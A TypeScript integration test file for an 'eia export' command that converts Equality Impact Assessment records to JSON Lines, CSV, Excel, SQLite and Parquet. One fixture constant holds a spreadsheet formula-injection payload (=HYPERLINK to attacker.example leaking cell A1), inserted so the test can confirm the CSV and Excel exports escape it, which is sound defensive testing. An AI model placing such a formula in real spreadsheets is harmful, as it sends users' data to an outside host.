/**
 * `eia export` on the real samples (the scan read by OCR), as an analyst runs it: the copies
 * of one EIA (PDF, Word, text, scan) come out as one row; every format, read back by its own
 * reader, holds exactly what the JSON Lines export holds; the SQLite view answers "negative
 * or mixed disability impacts" as the JSON Lines do; a formula in a narrative (a reviewer's
 * correction) is escaped in CSV and Excel; datapackage.json describes the files as they are;
 * output paths and a closed pipe behave.
 */
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import type { EiaRecord } from '../../src/model/record.js';
import { CONTINUED } from '../../src/export/formats/xlsx.js';
import { TABLES, type Row } from '../../src/export/tables.js';
import { readCsvWithPython, readParquet, readSqlite, readXlsx, type Tables } from '../helpers/exportReaders.js';
import { CLI, SAMPLES_DIR } from '../helpers/samples.js';
import { checkPackage } from '../helpers/tableSchemaCheck.js';

const dir = mkdtempSync(join(tmpdir(), 'eia-export-'));
const db = join(dir, 'eia.db');
const out = (p: string): string => join(dir, 'out', p);
const eia = (...args: string[]) => spawnSync(process.execPath, [CLI, ...args], { encoding: 'utf8', timeout: 900_000, maxBuffer: 256 * 2 ** 20 });
const PROBE = '=HYPERLINK("https://attacker.example/?leak="&A1,"Click for details")';
const PROBE_FILE = 'bathnes-adult-care-charging-2024.pdf';

let records: EiaRecord[];
let everyCopy: EiaRecord[];

beforeAll(() => {
  const ingest = eia('ingest', SAMPLES_DIR, '--db', db, '--threads', '2', '--timeout', '600');
  expect(ingest.status, ingest.stderr).toBe(0);
  // A reviewer pastes a formula into a narrative: the export must not let Excel run it.
  const store = new Database(db);
  const row = store.prepare(`SELECT d.sha256 FROM documents d WHERE d.path LIKE ?`).get(`%${PROBE_FILE}`) as { sha256: string };
  store.prepare(`INSERT INTO corrections (sha256, index_in_file, pointer, value, reviewer, note, created_at) VALUES (?, 0, '/impacts/0/narrative', ?, 'test', 'probe', ?)`)
    .run(row.sha256, JSON.stringify(PROBE), new Date().toISOString());
  store.close();
  for (const [format, path] of [['jsonl', 'records.jsonl'], ['csv', 'csv'], ['xlsx', 'eia.xlsx'], ['sqlite', 'eia.sqlite'], ['parquet', 'parquet']] as const) {
    const r = eia('export', '--db', db, '--format', format, '--out', out(`${format}/${path}`));
    expect(r.status, r.stderr).toBe(0);
  }
  const lines = (args: string[]): EiaRecord[] => eia('export', '--db', db, ...args).stdout.trim().split('\n').map((l) => JSON.parse(l) as EiaRecord);
  records = readFileSync(out('jsonl/records.jsonl'), 'utf8').trim().split('\n').map((l) => JSON.parse(l) as EiaRecord);
  everyCopy = lines(['--all-copies']);
}, 1_200_000);

/** What the tables must hold for these records, taken from the JSON Lines alone. */
function expectedFromJsonl(rs: EiaRecord[]): Tables {
  const id = (r: EiaRecord): string => `${r.document.sha256}:${r.document.indexInFile}`;
  return {
    eias: rs.map((r) => ({ record_id: id(r), title: r.eia.title, organisation: r.eia.organisation, directorate: r.eia.directorate, service: r.eia.service,
      activity_type: r.eia.activityType, assessment_date: r.eia.assessmentDate, purpose: r.eia.purpose, scope: r.eia.scope, consultation: r.eia.consultation,
      outcome: r.eia.outcome, template: r.template.id, source_file: r.document.file, review_status: r.review.status, impacts_count: r.eia.impacts.length })),
    people: rs.flatMap((r) => r.eia.people.map((p, position) => ({ record_id: id(r), position, name: p.name, role: p.role, capacity: p.capacity, date: p.date }))),
    impacts: rs.flatMap((r) => r.eia.impacts.map((m, position) => ({ record_id: id(r), position, characteristic: m.characteristic, label: m.label, rating: m.rating,
      adverse: m.rating === 'negative' || m.rating === 'both', group: m.group, subgroup: m.subgroup, proposal: m.proposal, narrative: m.narrative,
      mitigation: m.mitigation, owner: m.owner }))),
    actions: rs.flatMap((r) => r.eia.actions.map((a, position) => ({ record_id: id(r), position, issue: a.issue, action: a.action, milestone: a.milestone, owner: a.owner, due: a.due }))),
    sections: rs.flatMap((r) => r.eia.sections.map((s, position) => ({ record_id: id(r), position, ref: s.ref, heading: s.heading, text: s.text }))),
  };
}

const project = (rows: Row[], columns: string[]): Row[] => rows.map((r) => Object.fromEntries(columns.map((c) => [c, r[c] ?? null])));

describe('eia export', () => {
  it('gives the copies of one EIA (PDF, Word, text and the scan) one row, and lists every file under it', () => {
    expect(everyCopy).toHaveLength(28);
    expect(records).toHaveLength(10);
    const tables = readSqlite(out('sqlite/eia.sqlite'));
    expect(new Set(tables.eias!.map((e) => e.eia_id)).size).toBe(10);
    const eiaOf = new Map(tables.files!.map((f) => [String(f.source_file).split('/').pop(), f.eia_id]));
    expect(tables.files).toHaveLength(28);
    const commissioning = ['bathnes-commissioning-2024.pdf', 'bathnes-commissioning-2024.docx', 'bathnes-commissioning-2024.txt', 'bathnes-commissioning-2024-scan.pdf'];
    expect(new Set(commissioning.map((f) => eiaOf.get(f))).size).toBe(1);
    // Files of different EIAs never share an id: the name before the extension says which EIA it is.
    const byName = new Map<string, Set<unknown>>();
    for (const [file, id] of eiaOf) byName.set(file!.replace(/(-scan)?\.\w+$/, ''), (byName.get(file!.replace(/(-scan)?\.\w+$/, '')) ?? new Set()).add(id));
    expect([...byName.values()].every((ids) => ids.size === 1)).toBe(true);
    expect(new Set([...byName.values()].map((ids) => [...ids][0])).size).toBe(10);
    // The reviewed copy (the probe's correction) is the one shown.
    expect(records.find((r) => r.document.file.endsWith(PROBE_FILE))?.review.status).toBe('reviewed');
    const status = eia('status', '--db', db);
    expect(status.stdout).toMatch(/EIAs: 10 \(18 records are copies/);
  });

  it('round-trips the JSON Lines through csv, xlsx, sqlite and parquet, each read by its own reader', async () => {
    const expected = expectedFromJsonl(records);
    const read: Record<string, Tables> = {
      csv: readCsvWithPython(out('csv/csv')),
      xlsx: await readXlsx(out('xlsx/eia.xlsx'), CONTINUED),
      sqlite: readSqlite(out('sqlite/eia.sqlite')),
      parquet: await readParquet(out('parquet/parquet')),
    };
    for (const [format, tables] of Object.entries(read)) {
      for (const [table, rows] of Object.entries(expected)) {
        expect(project(tables[table]!, Object.keys(rows[0]!)), `${format} ${table}`).toEqual(rows);
      }
      // Beyond the model's fields, every format holds the same cells (provenance, ids, links).
      for (const table of TABLES) expect(tables[table.name], `${format} ${table.name}`).toEqual(read.sqlite![table.name]);
    }
    expect(expected.impacts!.length).toBeGreaterThan(100);
  });

  it('answers "negative or mixed disability impacts" from the SQLite view exactly as from the JSON Lines', () => {
    const fromJsonl = records.flatMap((r) => r.eia.impacts.flatMap((m, i) =>
      m.characteristic === 'disability' && (m.rating === 'negative' || m.rating === 'both') ? [`${r.document.sha256}:${r.document.indexInFile}#${i}`] : [])).sort();
    const analyst = new Database(out('sqlite/eia.sqlite'), { readonly: true });
    const fromView = (analyst.prepare(`SELECT record_id, position FROM adverse_impacts WHERE characteristic = 'disability'`).all() as Array<{ record_id: string; position: number }>)
      .map((r) => `${r.record_id}#${r.position}`).sort();
    const wide = analyst.prepare('SELECT COUNT(*) AS n, COUNT(disability) AS rated FROM impacts_wide').get() as { n: number; rated: number };
    const indexes = (analyst.prepare(`SELECT name FROM sqlite_master WHERE type = 'index' AND name NOT LIKE 'sqlite_%'`).all() as Array<{ name: string }>).map((r) => r.name);
    analyst.close();
    expect(fromJsonl.length).toBeGreaterThan(0);
    expect(fromView).toEqual(fromJsonl);
    expect(wide.n).toBe(10);
    expect(wide.rated).toBeGreaterThan(0);
    expect(indexes).toEqual(expect.arrayContaining(['impacts_eia', 'files_eia', 'people_eia', 'actions_eia', 'sections_eia']));
  });

  it('escapes a formula in a narrative in CSV and Excel, and keeps it as text', async () => {
    const csv = readFileSync(out('csv/csv/impacts.csv'), 'utf8');
    expect(csv).toContain(`"'${PROBE.replace(/"/g, '""')}"`);
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(out('xlsx/eia.xlsx'));
    const cells: ExcelJS.Cell[] = [];
    workbook.getWorksheet('impacts')!.eachRow((row) => row.eachCell((cell) => { if (String(cell.value).includes('HYPERLINK')) cells.push(cell); }));
    expect(cells).toHaveLength(1);
    expect(cells[0]!.type).toBe(ExcelJS.ValueType.String);
    expect(cells[0]!.value).toBe(`'${PROBE}`);
  });

  it('writes a datapackage.json that validates and matches every export\'s files', async () => {
    for (const folder of ['csv/csv', 'parquet/parquet', 'sqlite', 'xlsx']) {
      const problems = await checkPackage(out(folder));
      expect(problems, folder).toEqual([]);
    }
    const pkg = JSON.parse(readFileSync(out('csv/csv/datapackage.json'), 'utf8')) as { resources: Array<{ name: string; path: string }> };
    expect(pkg.resources.map((r) => r.name)).toEqual(TABLES.map((t) => t.name));
  });

  it('filters by characteristic and rating, dates, status and confidence', () => {
    const rows = (...args: string[]): EiaRecord[] => eia('export', '--db', db, ...args).stdout.trim().split('\n').filter(Boolean).map((l) => JSON.parse(l) as EiaRecord);
    const adverseDisability = records.filter((r) => r.eia.impacts.some((m) => m.characteristic === 'disability' && ['negative', 'both'].includes(m.rating)));
    expect(rows('--characteristic', 'disability', '--rating', 'adverse').map((r) => r.document.sha256)).toEqual(adverseDisability.map((r) => r.document.sha256));
    const since = rows('--from', '2015-01-01');
    expect(since.length).toBe(records.filter((r) => (r.eia.assessmentDate ?? '') >= '2015').length);
    expect(since.every((r) => r.eia.assessmentDate! >= '2015')).toBe(true);
    expect(rows('--status', 'reviewed').map((r) => r.document.file)).toEqual([`samples/${PROBE_FILE}`].map((f) => records.find((r) => r.document.file.endsWith(f))!.document.file));
    expect(rows('--template', 'derby-2011')).toHaveLength(2);
    expect(rows('--min-confidence', '1')).toHaveLength(0);
  });

  it('refuses an output path of the wrong kind in one line, creates missing folders, and ends quietly on a closed pipe', () => {
    const file = join(dir, 'a-file');
    writeFileSync(file, 'x');
    const toFile = eia('export', '--db', db, '--format', 'csv', '--out', file);
    expect(toFile.status).toBe(1);
    expect(toFile.stderr.trim()).toMatch(/^eia: --out .*a-file is a file, but this format writes a folder/);
    expect(toFile.stderr.trim().split('\n')).toHaveLength(1);
    mkdirSync(join(dir, 'a-folder'));
    const toFolder = eia('export', '--db', db, '--format', 'xlsx', '--out', join(dir, 'a-folder'));
    expect(toFolder.stderr.trim()).toMatch(/^eia: --out .*a-folder is a folder/);
    expect(toFolder.status).toBe(1);
    const missingDb = eia('export', '--db', join(dir, 'nope.db'));
    expect(missingDb.stderr.trim()).toMatch(/^eia: no store at .*nope\.db — run 'eia ingest' first or pass --db$/); // the one wording every reader uses (cli-errors)
    expect(eia('export', '--db', db, '--format', 'sqlite', '--out', join(dir, 'new', 'deeper', 'e.sqlite')).status).toBe(0);
    // "-" is standard output, never a file named "-"; a folder format refuses it in one line.
    const dashed = spawnSync(process.execPath, [CLI, 'export', '--db', db, '--out', '-'], { encoding: 'utf8', cwd: dir });
    expect(dashed.status).toBe(0);
    expect(dashed.stdout.split('\n')[0]).toMatch(/^\{"schemaVersion":1/);
    expect(existsSync(join(dir, '-'))).toBe(false);
    expect(eia('export', '--db', db, '--format', 'csv', '--out', '-').stderr.trim()).toBe('eia: --format csv cannot go to standard output — pass --out with a folder');
    const piped = spawnSync('bash', ['-c', `set -o pipefail; "${process.execPath}" "${CLI}" export --db "${db}" --all-copies | head -1 > /dev/null`], { encoding: 'utf8' });
    expect(piped.stderr).not.toMatch(/Error|EPIPE|at .*\.js:\d+/);
    expect(piped.status).toBe(0);
  });
});
